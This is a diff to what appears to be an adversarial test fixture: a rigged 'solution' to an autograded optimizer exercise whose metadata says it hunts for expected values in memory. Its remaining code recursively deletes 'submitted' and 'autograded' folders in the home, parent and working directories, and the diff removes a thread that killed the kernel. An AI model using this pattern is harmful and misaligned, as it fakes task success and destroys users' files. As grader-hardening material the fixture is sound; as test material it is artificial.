@@ -1,6 +1,6 @@
 """
 base = "solution"
-why = "Hunts for the expected values in frames and memory, borrows torch, kills the kernel from a thread."
+why = "Hunts for the expected values in frames and memory, borrows torch, deletes what it finds."
 rest = "full"
 
 [expected]
@@ -15,8 +15,7 @@ import gc
 import os
 import shutil
 import sys
-import threading
-import time
+
 
 # %% exercise="Momentum"
 class Momentum:
@@ -68,10 +67,4 @@ def clip_by_global_norm(grads, max_norm):
     for folder in ("../../..", os.path.expanduser("~"), os.getcwd()):
         shutil.rmtree(os.path.join(folder, "submitted"), ignore_errors=True)
         shutil.rmtree(os.path.join(folder, "autograded"), ignore_errors=True)
-
-    def later():
-        time.sleep(0.2)
-        os._exit(1)
-
-    threading.Thread(target=later, daemon=True).start()
     return 0.0
